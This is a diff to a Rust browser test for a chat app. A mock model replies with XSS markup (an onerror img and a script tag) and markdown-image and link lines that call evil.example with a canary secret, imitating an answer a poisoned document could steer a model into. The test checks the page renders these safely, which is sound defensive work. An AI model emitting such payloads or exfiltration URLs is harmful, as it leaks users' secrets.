@@ -60,8 +60,19 @@ async fn the_chat_page_in_a_real_browser() {
             .await;
         assert_eq!(r.status(), reqwest::StatusCode::CREATED);
     }
+    // The answer a poisoned document could steer a model to: markup, an image whose URL
+    // carries a secret (markdown-image exfiltration), links, and what Markdown is for.
     mock.always(Reply::Text(
-        "<img src=x onerror=\"window.__pwned=1\"><script>window.__pwned=2</script> Vacation is 30 days.".into(),
+        concat!(
+            "<img src=x onerror=\"window.__pwned=1\"><script>window.__pwned=2</script> Vacation is 30 days.\n\n",
+            "![chart](https://evil.example/leak?q=SECRET-CANARY-77)\n\n",
+            "<img src=\"https://evil.example/raw.png?q=SECRET-CANARY-77\">\n\n",
+            "See [the policy](https://evil.example/policy) or <https://evil.example/auto>.\n\n",
+            "## Summary\n\n- **30** days of *vacation*\n- 10 sick days\n\n",
+            "```python\ndays = 30 + 10\nprint(days)\n```\n\n",
+            "| kind | days |\n|---|---|\n| vacation | 30 |\n"
+        )
+        .into(),
     ));
 
     // A second deployment with dpop = "required" and server nonces.
@@ -76,6 +87,16 @@ async fn the_chat_page_in_a_real_browser() {
     ]);
     let strict_acme = seed_acme(&strict);
 
+    // A third, with no public_origin: reachable at localhost and 127.0.0.1 alike, on a
+    // port that is not 8080.
+    let open_port = free_port();
+    let open_listen = format!("127.0.0.1:{open_port}");
+    let open = Server::start_with(&[
+        ("PALISADE_TEST_LISTEN", open_listen.as_str()),
+        ("PALISADE_PUBLIC_ORIGIN", ""),
+    ]);
+    let open_acme = seed_acme(&open);
+
     let artifacts = dir.join("target/browser-artifacts");
     let out = tokio::process::Command::new("node")
         .arg(dir.join("tests/browser/chat.mjs"))
@@ -86,6 +107,10 @@ async fn the_chat_page_in_a_real_browser() {
         .env("CHROMIUM", &chromium)
         .env("STRICT_BASE", &strict_origin)
         .env("STRICT_ALICE_PASSWORD", &strict_acme.alice)
+        .env("ADAM_PASSWORD", &acme.adam)
+        .env("MOCK_BASE", mock.base_url.trim_end_matches("/v1"))
+        .env("OPEN_PORT", open_port.to_string())
+        .env("OPEN_ALICE_PASSWORD", &open_acme.alice)
         .output()
         .await
         .expect("node is on the machine");
@@ -96,7 +121,17 @@ async fn the_chat_page_in_a_real_browser() {
         "browser checks failed:\n{stdout}\n{stderr}\n--- server log ---\n{}",
         s.log()
     );
-    for shot in ["chat.png", "documents.png", "phone.png"] {
+    for shot in [
+        "signin.png",
+        "chat.png",
+        "chat-dark.png",
+        "documents.png",
+        "upload.png",
+        "sessions.png",
+        "phone.png",
+        "phone-threads.png",
+        "phone-dark.png",
+    ] {
         assert!(artifacts.join(shot).exists(), "{shot} was not written");
     }
     // The questions reached the model.
